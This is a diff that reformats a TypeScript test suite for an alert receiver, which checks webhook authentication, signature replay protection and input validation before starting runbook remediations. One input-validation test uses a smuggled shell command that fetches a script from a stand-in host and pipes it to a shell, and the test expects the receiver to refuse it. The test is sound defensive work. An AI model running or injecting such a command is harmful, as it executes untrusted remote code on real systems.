@@ -107,7 +107,8 @@ afterAll(async () => {
 
 async function runsOf(runbook: string, alertFingerprint: string): Promise<string[]> {
   const ids: string[] = [];
-  for await (const w of (await testClient()).workflow.list({ query: `RunbookName = "${runbook}" AND AlertFingerprint = "${alertFingerprint}"` })) ids.push(w.workflowId);
+  for await (const w of (await testClient()).workflow.list({ query: `RunbookName = "${runbook}" AND AlertFingerprint = "${alertFingerprint}"` }))
+    ids.push(w.workflowId);
   return ids;
 }
 
@@ -146,7 +147,11 @@ describe('Alertmanager', () => {
       expect(r).toEqual({ status: 401, json: { error: 'unauthenticated' } });
     }
     expect(logged.filter((e) => e.msg === 'delivery refused: not authenticated').map((e) => e.reason)).toEqual(
-      expect.arrayContaining(['missing Authorization header', 'bearer token does not match', 'alertmanager accepts no basic auth (only bearer tokens are configured)']),
+      expect.arrayContaining([
+        'missing Authorization header',
+        'bearer token does not match',
+        'alertmanager accepts no basic auth (only bearer tokens are configured)',
+      ]),
     );
     expect(await runsOf('errors', 'ffff000011112222')).toEqual([]);
     expect(callsOf('rcv-checkout')).toHaveLength(before);
@@ -157,7 +162,10 @@ describe('Grafana, PagerDuty and signed webhooks', () => {
   it('accepts a timestamped Grafana signature and refuses a stale or forged one', async () => {
     const body = fixture('grafana-firing.json');
     const now = Math.floor(Date.now() / 1000);
-    const sign = (ts: number, secret = 'grafana-secret-0123456789') => ({ 'x-grafana-alerting-signature': createHmac('sha256', secret).update(`${ts}:${body}`).digest('hex'), 'x-grafana-alerting-signature-timestamp': String(ts) });
+    const sign = (ts: number, secret = 'grafana-secret-0123456789') => ({
+      'x-grafana-alerting-signature': createHmac('sha256', secret).update(`${ts}:${body}`).digest('hex'),
+      'x-grafana-alerting-signature-timestamp': String(ts),
+    });
     expect(await post('grafana', body, sign(now - 1000))).toEqual({ status: 401, json: { error: 'unauthenticated' } });
     expect(logged.at(-1)).toMatchObject({ source: 'grafana', reason: expect.stringMatching(/^timestamp 10\d\d s old; tolerance 300 s$/) });
     expect((await post('grafana', body, sign(now, 'forged'))).status).toBe(401);
@@ -179,13 +187,20 @@ describe('Grafana, PagerDuty and signed webhooks', () => {
     // A validly signed event replayed two hours later, under a fresh delivery id (L4).
     const old = pagerDutyEvent(new Date(Date.now() - 2 * 3_600_000));
     expect((await post('pagerduty', old, { 'x-pagerduty-signature': sig('pd-new-0123456789abc', old), 'x-webhook-id': 'delivery-3' })).status).toBe(401);
-    expect(logged.at(-1)).toMatchObject({ source: 'pagerduty', reason: expect.stringMatching(/^event occurred 72\d\d s ago; older than 3600 s is refused as a replay$/) });
+    expect(logged.at(-1)).toMatchObject({
+      source: 'pagerduty',
+      reason: expect.stringMatching(/^event occurred 72\d\d s ago; older than 3600 s is refused as a replay$/),
+    });
   });
 
   it('accepts a Standard Webhooks signature within five minutes and refuses a replay after', async () => {
     const payload = JSON.stringify({ name: 'DiskFull', labels: { team: 'sre', host: 'db-1' }, fingerprint: 'disk-db-1' });
     const signer = new Webhook(WEBHOOK_SECRET);
-    const headers = (id: string, at: Date) => ({ 'webhook-id': id, 'webhook-timestamp': String(Math.floor(at.getTime() / 1000)), 'webhook-signature': signer.sign(id, at, payload) });
+    const headers = (id: string, at: Date) => ({
+      'webhook-id': id,
+      'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
+      'webhook-signature': signer.sign(id, at, payload),
+    });
     const ok = await post('webhook', payload, headers('msg_1', new Date()));
     expect(ok.status).toBe(202);
     expect(ok.json.results[0].runbooks[0].outcome).toBe('started');
@@ -204,13 +219,38 @@ describe('bad input gets a 4xx with a reason and starts nothing', () => {
 
   it.each<[string, () => Promise<{ status: number; json: any }>, number, RegExp]>([
     ['malformed JSON', () => post('alertmanager', '{"version": "4", "alerts": [', bearer), 400, /^Unexpected end of JSON input|Expected/],
-    ['a wrong content type', async () => {
-      const res = await fetch(`${url}/alerts/alertmanager`, { method: 'POST', headers: { 'content-type': 'text/plain', ...bearer }, body: 'hello' });
-      return { status: res.status, json: await res.json() };
-    }, 415, /^send application\/json, not text\/plain/],
+    [
+      'a wrong content type',
+      async () => {
+        const res = await fetch(`${url}/alerts/alertmanager`, { method: 'POST', headers: { 'content-type': 'text/plain', ...bearer }, body: 'hello' });
+        return { status: res.status, json: await res.json() };
+      },
+      415,
+      /^send application\/json, not text\/plain/,
+    ],
     ['a 10 MB body', () => post('alertmanager', `{"pad":"${'x'.repeat(10 * 1024 * 1024)}"}`, bearer), 413, /^the body is larger than 1048576 bytes$/],
-    ['missing fields', () => post('alertmanager', am((b) => delete b.alerts[0].fingerprint), bearer), 422, /alerts\[0\]\.fingerprint/],
-    ['a wrong version', () => post('alertmanager', am((b) => (b.version = '3')), bearer), 422, /^version must be "4"/],
+    [
+      'missing fields',
+      () =>
+        post(
+          'alertmanager',
+          am((b) => delete b.alerts[0].fingerprint),
+          bearer,
+        ),
+      422,
+      /alerts\[0\]\.fingerprint/,
+    ],
+    [
+      'a wrong version',
+      () =>
+        post(
+          'alertmanager',
+          am((b) => (b.version = '3')),
+          bearer,
+        ),
+      422,
+      /^version must be "4"/,
+    ],
     ['an unknown source', () => post('nagios', '{}', bearer), 404, /^no alert source `nagios`/],
   ])('%s', async (_, send, status, reason) => {
     const r = await send();
@@ -226,7 +266,11 @@ describe('bad input gets a 4xx with a reason and starts nothing', () => {
     });
     const r = await post('alertmanager', body, bearer);
     expect(r.status).toBe(422);
-    expect(r.json.results[0].runbooks[0]).toEqual({ runbook: 'errors', outcome: 'refused', reason: 'input `service` (alert.labels.service) `$(curl evil.sh | sh)` does not match ^[a-z0-9-]{1,63}$' });
+    expect(r.json.results[0].runbooks[0]).toEqual({
+      runbook: 'errors',
+      outcome: 'refused',
+      reason: 'input `service` (alert.labels.service) `$(curl evil.sh | sh)` does not match ^[a-z0-9-]{1,63}$',
+    });
     expect(await runsOf('errors', 'inject0000000001')).toEqual([]);
   });
 
@@ -253,7 +297,9 @@ describe('bad input gets a 4xx with a reason and starts nothing', () => {
     const r = await post('alertmanager', body, bearer);
     expect(r.status).toBe(202);
     expect(r.json.results[0]).toMatchObject({ name: 'SomethingElse', outcome: 'unmatched', runbooks: [] });
-    expect(await metrics.registry.getSingleMetricAsString('runbook_receiver_unmatched_alerts_total')).toContain('runbook_receiver_unmatched_alerts_total{source="alertmanager"} 1');
+    expect(await metrics.registry.getSingleMetricAsString('runbook_receiver_unmatched_alerts_total')).toContain(
+      'runbook_receiver_unmatched_alerts_total{source="alertmanager"} 1',
+    );
   });
 });
 
@@ -266,7 +312,11 @@ describe('hostile or odd deliveries (M4, M5, L1)', () => {
   };
 
   it('refuses an impossible start time with the field named', async () => {
-    const r = await post('alertmanager', am((a) => (a.startsAt = '2026-13-45T99:99:99Z')), bearer);
+    const r = await post(
+      'alertmanager',
+      am((a) => (a.startsAt = '2026-13-45T99:99:99Z')),
+      bearer,
+    );
     expect(r).toEqual({ status: 422, json: { error: 'invalid payload', reason: 'alerts[0].startsAt is not a real date and time' } });
   });
 
@@ -285,10 +335,19 @@ describe('hostile or odd deliveries (M4, M5, L1)', () => {
   });
 
   it('starts a remediation for a 3,000-character fingerprint and service, indexed by their safe forms', async () => {
-    const payload = JSON.stringify({ name: 'Huge', labels: { team: 'sre', service: 's'.repeat(3_000) }, fingerprint: 'f'.repeat(3_000), startsAt: new Date().toISOString() });
+    const payload = JSON.stringify({
+      name: 'Huge',
+      labels: { team: 'sre', service: 's'.repeat(3_000) },
+      fingerprint: 'f'.repeat(3_000),
+      startsAt: new Date().toISOString(),
+    });
     const signer = new Webhook(WEBHOOK_SECRET);
     const at = new Date();
-    const r = await post('webhook', payload, { 'webhook-id': 'msg_huge', 'webhook-timestamp': String(Math.floor(at.getTime() / 1000)), 'webhook-signature': signer.sign('msg_huge', at, payload) });
+    const r = await post('webhook', payload, {
+      'webhook-id': 'msg_huge',
+      'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
+      'webhook-signature': signer.sign('msg_huge', at, payload),
+    });
     expect(r.status).toBe(202);
     expect(r.json.results[0].runbooks[0].outcome).toBe('started');
     const attributes = (await (await testClient()).workflow.getHandle(r.json.results[0].runbooks[0].workflowId).describe()).typedSearchAttributes;
@@ -310,7 +369,11 @@ describe('hostile or odd deliveries (M4, M5, L1)', () => {
     const refusing = {
       workflow: {
         start: async () => {
-          throw Object.assign(new Error('3 INVALID_ARGUMENT: search attribute value too long'), { code: 3, details: 'search attribute value too long', metadata: {} });
+          throw Object.assign(new Error('3 INVALID_ARGUMENT: search attribute value too long'), {
+            code: 3,
+            details: 'search attribute value too long',
+            metadata: {},
+          });
         },
       },
       connection: { workflowService: { getSystemInfo: async () => ({}) } },
@@ -319,10 +382,18 @@ describe('hostile or odd deliveries (M4, M5, L1)', () => {
     await other.listen({ host: '127.0.0.1', port: 0 });
     try {
       const port = (other.server.address() as { port: number }).port;
-      const res = await fetch(`http://127.0.0.1:${port}/alerts/alertmanager`, { method: 'POST', headers: { 'content-type': 'application/json', ...bearer }, body: am((a) => (a.fingerprint = 'refused000000001')) });
+      const res = await fetch(`http://127.0.0.1:${port}/alerts/alertmanager`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...bearer },
+        body: am((a) => (a.fingerprint = 'refused000000001')),
+      });
       expect(res.status).toBe(422);
       expect(res.headers.get('retry-after')).toBeNull();
-      expect(((await res.json()) as { results: Array<{ runbooks: unknown[] }> }).results[0]!.runbooks[0]).toEqual({ runbook: 'errors', outcome: 'refused', reason: 'Temporal refused the remediation: search attribute value too long' });
+      expect(((await res.json()) as { results: Array<{ runbooks: unknown[] }> }).results[0]!.runbooks[0]).toEqual({
+        runbook: 'errors',
+        outcome: 'refused',
+        reason: 'Temporal refused the remediation: search attribute value too long',
+      });
     } finally {
       await other.close();
     }
@@ -360,7 +431,15 @@ describe('operations', () => {
   });
 
   it('derives remediation ids from runbook, source, fingerprint and start time', () => {
-    const alert = { source: 'alertmanager' as const, status: 'firing' as const, fingerprint: 'abc', name: 'X', labels: {}, annotations: {}, startsAt: '2026-11-29T10:00:00Z' };
+    const alert = {
+      source: 'alertmanager' as const,
+      status: 'firing' as const,
+      fingerprint: 'abc',
+      name: 'X',
+      labels: {},
+      annotations: {},
+      startsAt: '2026-11-29T10:00:00Z',
+    };
     expect(remediationId(RUNBOOKS[0]!, alert)).toBe('errors/alertmanager/abc@1795946400');
     expect(remediationId(RUNBOOKS[1]!, { ...alert, source: 'pagerduty', fingerprint: 'Q1ABC' })).toBe('incidents/pagerduty/Q1ABC');
     expect(remediationId(RUNBOOKS[0]!, { ...alert, fingerprint: 'has spaces/and slashes' })).toMatch(/^errors\/alertmanager\/[0-9a-f]{32}@1795946400$/);
